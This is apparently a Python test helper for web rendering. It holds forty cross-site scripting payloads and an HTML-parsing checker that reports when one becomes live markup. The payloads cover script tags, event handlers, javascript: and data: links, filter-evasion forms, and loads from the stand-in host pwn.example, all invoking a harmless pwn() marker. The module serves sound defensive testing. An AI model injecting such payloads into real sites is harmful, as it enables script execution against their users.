"""Forty ways in which a text tries to become a script, and a reader of pages that tells when one did.

Every payload carries the word ``pwn``; where it is only text, it stands between tags or in an attribute that
is words (title, content, value …). Anywhere else it has become part of the page.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

PAYLOADS = (
    "<script>pwn()</script>", "<ScRiPt src=//pwn.example></sCrIpT>", "<scr<script>ipt>pwn()</scr</script>ipt>",
    "<img src=x onerror=pwn()>", "<img/src=`x`onerror=pwn()>", '"><img src=x onerror=pwn()>', "'><svg/onload=pwn()>",
    "<svg><script>pwn()</script></svg>", "<svg><animate onbegin=pwn() attributeName=x>", "<body onload=pwn()>",
    "<iframe srcdoc='<script>pwn()</script>'></iframe>", "<iframe src=javascript:pwn()>", "<object data=javascript:pwn()>",
    "<embed src=data:text/html,pwn>", "<a href=javascript:pwn()>x</a>", "<a href='java\tscript:pwn()'>x</a>",
    "[pwn](javascript:pwn())", "[pwn](JaVaScRiPt&colon;pwn())", "[pwn](data:text/html;base64,cHdu)", "[pwn](vbscript:pwn)",
    "![pwn](x\"onerror=\"pwn())", "<javascript:pwn()>", "[pwn][1]\n\n[1]: javascript:pwn()", "<form action=javascript:pwn()><button>x",
    "<input autofocus onfocus=pwn()>", "<details open ontoggle=pwn()>", "<video><source onerror=pwn()>", "<math href=javascript:pwn()>x",
    "<base href=//pwn.example/>", "<meta http-equiv=refresh content='0;url=javascript:pwn()'>", "<link rel=stylesheet href=//pwn.example>",
    "<style>@import'//pwn.example'</style>", "<p style=background:url(//pwn.example)>x", '" onmouseover="pwn()', "' onfocus='pwn()' x='",
    "{{ pwn }}{% pwn %}${pwn}", "</title><script>pwn()</script>", "</textarea><script>pwn()</script>",
    "<!--><script>pwn()</script>-->", "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
)  # fmt: skip
ALL = "\n\n".join(PAYLOADS)
"""Every payload in one text; those that could swallow what follows stand at its end."""
ON_A_LINE = " ".join(" ".join(PAYLOADS).split())
"""The same for a field of one line."""

WORDS = frozenset(
    [
        "title",
        "alt",
        "value",
        "content",
        "placeholder",
        "aria-label",
        "aria-description",
        "label",
        "data-title",
        "data-text",
    ]
)
"""Attributes that a reader sees or hears as words."""
LEADS = frozenset(["href", "src", "action", "formaction", "data", "poster", "xlink:href", "srcdoc"])
_INNER = ("script", "style", "noscript")


def _harmless(tag: str, name: str, value: str) -> bool:
    """Say whether an address is one: of ours, or a link that somebody may follow."""
    scheme = re.sub(r"[\x00-\x20]", "", value).lower()
    if scheme.startswith(("javascript:", "data:text", "vbscript:")):
        return False
    ours = value.startswith(("/", "http://localhost/")) and not value.startswith("//")
    kept = (tag, name) in (("link", "href"), ("form", "action")) and ours  # what was asked for, carried along
    return "pwn" not in value or (tag, name) == ("a", "href") or kept


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.words = 0
        self._inside = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._inside = tag if tag in _INNER else self._inside
        if "pwn" in tag or "<" in tag or (tag == "meta" and "http-equiv" in dict(attrs)):
            self.found.append(f"<{tag}>")
        for name, text in attrs:
            value = text or ""
            self.words += name in WORDS and "pwn" in value
            leads = name in LEADS and not _harmless(tag, name, value)
            told = "pwn" in value and name not in WORDS and name not in LEADS
            read_otherwise = "pwn" in value and self._inside == "noscript"
            if leads or told or read_otherwise or "pwn" in name or name.startswith("on"):
                self.found.append(f"<{tag} {name}={value[:80]!r}>")

    def handle_endtag(self, tag: str) -> None:
        self._inside = "" if tag == self._inside else self._inside

    def handle_data(self, data: str) -> None:
        if "pwn" in data and self._inside:
            self.found.append(f"inside <{self._inside}>: {data[:80]!r}")
        self.words += "pwn" in data

    def handle_comment(self, data: str) -> None:
        if "pwn" in data:
            self.found.append(f"<!--{data[:80]}-->")


def became_more_than_words(page: str) -> tuple[list[str], int]:
    """Return where a payload became part of a page, and how often payloads stood on it as words."""
    reader = _Reader()
    reader.feed(page)
    reader.close()
    return reader.found, reader.words
